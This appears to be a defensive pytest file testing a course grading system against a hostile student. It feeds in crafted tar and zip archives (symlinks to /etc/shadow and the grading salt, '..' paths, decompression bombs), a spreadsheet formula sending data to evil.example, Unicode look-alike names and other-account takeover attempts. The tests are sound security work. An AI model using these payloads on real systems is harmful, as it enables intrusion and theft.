"""A hostile student (or what a student's code could make a grading node send) against the grading paths added
for clusters and LMSs: Ray's pack/place of a job's files, `course import` of LMS downloads, the `--db` URL's record,
and the hub's private files. Each test calls the function that packs, unpacks, validates or writes directly (no Ray
cluster, no PostgreSQL server, no hub): a test that passes is an attack that failed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from pathlib import Path

import pytest
from pipeline_fixture import FIXTURE, UNIT, course_copy

from course.grading import gradebook_db, intake, lms_import, pool, runner
from course.hub import __main__ as hub_main
from course.hub import accounts
from course.layout import Course
from utils.measure import LOCK_DIR_ENV

AS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to act as another account")
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]  # a student's account
ROSTER = "student_id,name,canvas_id\nalice,Alice Li,101\nbob,Bob Wang,102\nmallory,Mal Lory,103\n"


def notebook(marker: str) -> bytes:
    nb = json.loads((FIXTURE / "source" / UNIT / "softmax.ipynb").read_text(encoding="utf-8"))
    nb["metadata"]["marker"] = marker
    return json.dumps(nb).encode()


def marker(path: Path) -> str:
    return json.loads(path.read_text(encoding="utf-8"))["metadata"]["marker"]


# ---- Ray: what a node sends back is placed on the head ---------------------------------------------------------


def node_archive(entries: list[tuple[str, str, bytes | str]]) -> bytes:
    """A gzipped tar as a node's `run_in_copy` returns it: (name, kind "file"/"dir"/"link", data or link target)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, kind, data in entries:
            info = tarfile.TarInfo(name)
            if kind == "dir":
                info.type = tarfile.DIRTYPE
                tar.addfile(info)
            elif kind == "link":
                info.type, info.linkname = tarfile.SYMTYPE, data
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.fixture
def head(tmp_path) -> tuple[Path, tuple[Path, ...]]:
    """A head's course with a salt, alice's and bob's earlier results, and alice's job's outputs."""
    course = tmp_path / "course"
    (course / ".grading_salt").parent.mkdir(parents=True)
    (course / ".grading_salt").write_text("the salt")
    for student in ("alice", "bob"):
        (course / "feedback" / student / UNIT).mkdir(parents=True)
        (course / "feedback" / student / UNIT / "softmax.html").write_text(f"{student}'s feedback")
    outputs = (course / "autograded" / "alice" / UNIT, course / "feedback" / "alice" / UNIT)
    return tmp_path, outputs


def links_under(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_symlink()]


def test_a_link_a_node_sends_back_never_reaches_the_course(head):
    """A symbolic link inside the job's feedback folder, relative, that stays inside the head's unpacking folder
    (tarfile's "data" filter lets it through) but points at the course's salt once moved into the course."""
    base, outputs = head
    feedback = f"course/feedback/alice/{UNIT}"
    archive = node_archive(
        [(feedback, "dir", b""), (f"{feedback}/softmax.html", "link", "../../../.grading_salt")]
    )
    with pytest.raises(ValueError, match="link"):
        pool.place(archive, outputs, base)
    assert links_under(base / "course") == []
    assert (outputs[1] / "softmax.html").read_text() == "alice's feedback"  # the earlier result is kept


def test_a_node_cannot_make_a_students_folder_a_link_to_anothers(head):
    """The job's output folder itself sent back as a link to bob's folder: alice's next feedback would be bob's."""
    base, outputs = head
    archive = node_archive([(f"course/feedback/alice/{UNIT}", "link", f"../bob/{UNIT}")])
    with pytest.raises(ValueError, match="link"):
        pool.place(archive, outputs, base)
    assert not outputs[1].is_symlink() and (outputs[1] / "softmax.html").read_text() == "alice's feedback"


def test_a_node_cannot_write_outside_the_jobs_outputs(head):
    """Members for bob's results, the salt, or climbing out with `..` or an absolute name: none lands."""
    base, outputs = head
    archive = node_archive(
        [
            (f"course/feedback/bob/{UNIT}/softmax.html", "file", b"forged"),
            ("course/.grading_salt", "file", b"forged"),
            (f"course/autograded/alice/{UNIT}/softmax.ipynb", "file", notebook("alice")),
        ]
    )
    pool.place(archive, outputs, base)
    assert (base / "course" / "feedback" / "bob" / UNIT / "softmax.html").read_text() == "bob's feedback"
    assert (base / "course" / ".grading_salt").read_text() == "the salt"
    with pytest.raises(tarfile.FilterError):
        pool.place(node_archive([("../escaped.txt", "file", b"x")]), outputs, base)
    pool.place(node_archive([("/tmp/escaped-by-a-node.txt", "file", b"x")]), outputs, base)  # made relative
    assert not (base / "escaped.txt").exists() and not Path("/tmp/escaped-by-a-node.txt").exists()


def test_an_over_large_archive_from_a_node_is_refused_before_it_fills_the_disk(head, monkeypatch):
    """A decompression bomb (here small: the head's limit lowered to 1 MiB) is refused from its headers."""
    base, outputs = head
    monkeypatch.setattr(pool, "OUTPUT_BYTES", 1 << 20, raising=False)
    bomb = node_archive([(f"course/autograded/alice/{UNIT}/big.bin", "file", bytes(2 << 20))])
    assert len(bomb) < 20_000
    with pytest.raises(ValueError, match="MiB"):
        pool.place(bomb, outputs, base)
    assert not (outputs[0] / "big.bin").exists()


def test_a_node_refuses_an_archive_climbing_out_of_its_job_folder(tmp_path):
    """The node's side: what the head sent is unpacked with the "data" filter (no `..`, links out or devices)."""
    for entries in ([("../planted.py", "file", b"x")], [("a", "link", "/etc/passwd")]):
        with pytest.raises(tarfile.FilterError):
            pool.unpack(node_archive(entries), tmp_path / "job")
    assert not (tmp_path / "planted.py").exists()


# ---- course import: an LMS download ----------------------------------------------------------------------------


@pytest.fixture
def course(tmp_path) -> Course:
    course = course_copy(tmp_path / "course")
    (course.root / "roster.csv").write_text(ROSTER, encoding="utf-8")
    return course


def import_zip(course: Course, tmp_path: Path, members: dict[str, bytes | tuple[zipfile.ZipInfo, bytes]]):
    """Import a download of `members` ({name: data, or (entry, data)}) into tmp_path/uploads."""
    download = tmp_path / "download.zip"
    with zipfile.ZipFile(download, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(*(data if isinstance(data, tuple) else (name, data)))
    into = tmp_path / "uploads"
    people, stray = lms_import.import_zip(course, download, UNIT, into, course.root / "roster.csv")
    return {p.user: p for p in people}, stray, into


def test_a_moodle_student_renamed_like_another_does_not_replace_their_submission(course, tmp_path):
    """Moodle finds a student by the full name, which a student may edit: Mallory renamed "Bob Wang" hands in a
    blank notebook after Bob's. Neither is guessed: both are reported, Bob's earlier upload stays."""
    people, _, into = import_zip(
        course,
        tmp_path,
        {
            "Bob Wang_3302_assignsubmission_file_/softmax.ipynb": notebook("bob"),
            "Bob Wang_3399_assignsubmission_file_/softmax.ipynb": notebook("mallory"),
        },
    )
    assert not (into / "bob" / UNIT / "softmax.ipynb").exists()
    for user in ("3302", "3399"):
        assert "refused" in people[user].result and "3302, 3399" in people[user].result


def test_a_moodle_name_holding_the_layouts_marker_cannot_pose_as_another_participant(
    course, tmp_path, monkeypatch
):
    """Mallory's full name "Bob Wang_3302_assignsubmission_file_ x" makes her folder parse as Bob's (participant
    3302): her files would join Bob's submission, and one over a file's limit gets all of Bob's refused. Such a
    member is left out and reported."""
    monkeypatch.setattr(intake, "LIMITS", intake.Limits(file_bytes=1 << 20, disk_reserve=0))
    posing = "Bob Wang_3302_assignsubmission_file_ x_3303_assignsubmission_file_/data.bin"
    people, stray, into = import_zip(
        course,
        tmp_path,
        {"Bob Wang_3302_assignsubmission_file_/softmax-1.ipynb": notebook("bob"), posing: bytes(2 << 20)},
    )
    assert people["3302"].result == "placed"
    assert sorted(p.name for p in (into / "bob" / UNIT).iterdir()) == ["softmax.ipynb"]
    assert stray == [posing]


def test_the_import_report_holds_no_spreadsheet_formula_a_student_chose(course, tmp_path):
    """A Canvas file name (the student's) or a Moodle name starting with `=` would run as a formula when the
    instructor opens lms_import_<unit>.csv in a spreadsheet."""
    formula = '=WEBSERVICE("evil.example?"&A3)'
    for download in (
        {f"lialice_101_9001_{formula}.ipynb": notebook("a")},
        {f"{formula}_3301_assignsubmission_file_/softmax.ipynb": notebook("a")},
    ):
        import_zip(course, tmp_path, download)
        rows = list(csv.reader((tmp_path / "uploads" / f"lms_import_{UNIT}.csv").open(encoding="utf-8")))
        assert any("WEBSERVICE" in cell for cell in rows[1])
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows


def test_zip_slip_links_and_bombs_in_an_lms_download_are_refused(course, tmp_path, monkeypatch):
    """`..` in a Moodle path, a link member, and a small member that inflates past its limit: each student's
    submission is refused alone, nothing is written outside the upload folder, the others are placed."""
    monkeypatch.setattr(intake, "LIMITS", intake.Limits(notebook_bytes=1 << 20, disk_reserve=0))
    link = zipfile.ZipInfo("wangbob_102_9002_softmax.ipynb")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    people, _, into = import_zip(
        course,
        tmp_path,
        {
            "lialice_101_9001_softmax.ipynb": notebook("alice"),
            "wangbob_102_9002_softmax.ipynb": (link, "/etc/shadow"),
            "lorymal_103_9003_softmax.ipynb": b" " * (8 << 20),  # 8 MiB of spaces: a few KiB zipped
        },
    )
    assert people["101"].result == "placed"
    assert "symbolic link" in people["102"].result and "limit" in people["103"].result
    slip, _, _ = import_zip(
        course, tmp_path, {"Mal Lory_3303_assignsubmission_file_/../../../escaped.ipynb": notebook("m")}
    )
    assert ".." in slip["3303"].result and not list(tmp_path.rglob("escaped.ipynb"))
    assert sorted(p.name for p in into.iterdir() if p.is_dir()) == ["alice"]


def test_a_unicode_look_alike_name_matches_no_student(course, tmp_path):
    """ "Bоb Wang" with a Cyrillic о is nobody on the roster; "Bob Wang" with a right-to-left mark reads as Bob but
    is written otherwise: both reported, neither placed."""
    people, _, into = import_zip(
        course,
        tmp_path,
        {
            "B\u043eb Wang_3302_assignsubmission_file_/softmax.ipynb": notebook("m"),
            "Bob\u200f Wang_3303_assignsubmission_file_/softmax.ipynb": notebook("m"),
        },
    )
    assert "unknown student" in people["3302"].result
    assert "refused" in people["3303"].result and "bob (Bob Wang)" in people["3303"].result
    assert not (into / "bob").exists()


def test_intake_refuses_student_folders_named_to_climb_or_collide(tmp_path):
    """Folder names `.`, `..`, hidden or holding a look-alike letter are refused by intake's name check."""
    for name in ("..", ".", ".hidden", "b\u043eb", "bob/../alice", "bob\u202e"):
        with pytest.raises(intake.Refused):
            intake.check_folder_name(name, ("学生", "student"))


# ---- --db postgresql://… -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "given",
    [
        "postgresql://kim:hunter2@db.example/course",
        "postgresql://kim@db.example/course?password=hunter2",
        "postgresql://kim@db.example/course?sslmode=require&sslpassword=hunter2",
        "postgresql:///course?host=/run/postgresql&user=kim&password=hunter2",
    ],
)
def test_the_gradebooks_password_is_never_recorded_or_shown(tmp_path, monkeypatch, given):
    """libpq takes the password in the user part or as a query parameter: neither may reach `.gradebook_db` in the
    course folder or a message."""
    monkeypatch.setattr(gradebook_db, "check", lambda given: None)  # no server: the record is what is tested
    course = Course(tmp_path / "course", FIXTURE / "wrong", db=given)
    gradebook_db.settle(course)
    assert "hunter2" not in (course.root / gradebook_db.RECORD).read_text()
    assert "hunter2" not in gradebook_db.shown(given)
    gradebook_db.settle(course)  # the next run with the same URL is accepted


def test_student_ids_reach_the_database_only_as_bound_parameters():
    """No SQL is built from text in the grading code: every query is SQLAlchemy's or takes bound parameters."""
    grading = Path(gradebook_db.__file__).parent
    for path in [*grading.glob("*.py"), Path(pool.__file__).parents[1] / "judge" / "kernel.py"]:
        source = path.read_text(encoding="utf-8")
        for built in ('text(f"', "text(f'", 'execute(f"', "execute(f'", "% (", ".format("):
            assert built not in source or "SELECT" not in source.split(built, 1)[1][:200], (path, built)


# ---- the hub's private files -----------------------------------------------------------------------------------


@pytest.fixture
def watched(monkeypatch):
    """(path, mode) of every private file seen holding data while open to others, checked at each file operation
    (an audit hook: a student polling the hub's folder would open it then)."""
    exposed: list[tuple[str, int]] = []
    active = [True]

    def hook(event: str, args: tuple) -> None:
        if not active[0] or event not in ("open", "os.chmod", "os.rename", "os.replace"):
            return
        for candidate in list(hook.paths):
            try:
                found = os.stat(candidate)
            except OSError:
                continue
            if found.st_size and found.st_mode & 0o077:
                exposed.append((str(candidate), stat.S_IMODE(found.st_mode)))

    hook.paths = []
    sys.addaudithook(hook)
    yield hook.paths, exposed
    active[0] = False


def test_the_hubs_password_files_are_never_readable_by_others_while_written(tmp_path, watched):
    """passwords.json is rewritten at every student's first login while other students have terminals on the
    host (the hub's folder is 0755): written then chmod-ed, its hashes were readable for a moment; so was the
    instructor's first password, in clear."""
    paths, exposed = watched
    hub = tmp_path / "hub"
    hub.mkdir()
    old = os.umask(0o022)
    try:
        names = ["passwords", "instructor-password", "settings"]
        paths += [hub / f"{name}.{suffix}" for name in names for suffix in ("tmp", "json", "txt")]
        assert accounts.instructor_password(hub, "kim")
        assert accounts.check_password(hub, "alice", "a long password")
        accounts.write_private(hub / "settings.json", {"a": 1})
    finally:
        os.umask(old)
    assert exposed == []
    for name in (accounts.PASSWORDS, accounts.INSTRUCTOR_PASSWORD, "settings.json"):
        assert stat.S_IMODE((hub / name).stat().st_mode) == 0o600


@AS_ROOT
def test_another_account_on_the_grading_host_cannot_hold_the_gpu_timing_lock(monkeypatch):
    """A student with a terminal on the hub's host makes the grader's timing lock file first (a predictable name)
    and holds it: every GPU timing of the class would wait on it. The grader's lock folder is its own."""
    monkeypatch.delenv(LOCK_DIR_ENV, raising=False)
    lock = Path(runner.worker_env()[LOCK_DIR_ENV]) / f"flash-course-timing-{os.getuid()}-gpu-0.lock"
    made = subprocess.run([*NOBODY, "touch", str(lock)], capture_output=True)
    try:
        assert made.returncode != 0, f"another account made {lock}"
    finally:
        if made.returncode == 0:
            lock.unlink()


@pytest.fixture
def hub_dir():
    """A hub's folder that other accounts can reach (as /srv/flash-attention-hub is), removed after."""
    with tempfile.TemporaryDirectory(prefix="flash-hub-attack-") as tmp:
        os.chmod(tmp, 0o755)
        yield Path(tmp)


@AS_ROOT
def test_a_student_cannot_move_the_courses_exchange_aside_and_take_its_place(hub_dir):
    """The exchange is writable by all (nbgrader requires it): without the sticky bit a student renames the
    instructor's course folder and makes their own, then receives every classmate's submission (and serves them
    assignments of their own)."""
    exchange = hub_main.make_exchange(hub_dir, 0, 0)
    course = exchange / hub_main.COURSE_ID
    course.mkdir(mode=0o755, exist_ok=True)  # as the instructor's first release_assignment makes it
    moved = subprocess.run([*NOBODY, "mv", str(course), str(exchange / "aside")], capture_output=True)
    assert moved.returncode != 0, "a student moved the course's exchange folder aside"
    assert os.stat(course).st_uid == 0


@AS_ROOT
def test_a_course_exchange_folder_a_student_made_first_is_refused(hub_dir):
    """Made before the instructor's first release, the course's exchange folder would be the student's."""
    (hub_dir / "exchange").mkdir(mode=0o777)
    (hub_dir / "exchange").chmod(0o777)
    made = subprocess.run(
        [*NOBODY, "mkdir", str(hub_dir / "exchange" / hub_main.COURSE_ID)], capture_output=True
    )
    assert made.returncode == 0
    with pytest.raises(hub_main.HubError, match="exchange"):
        hub_main.make_exchange(hub_dir, 0, 0)
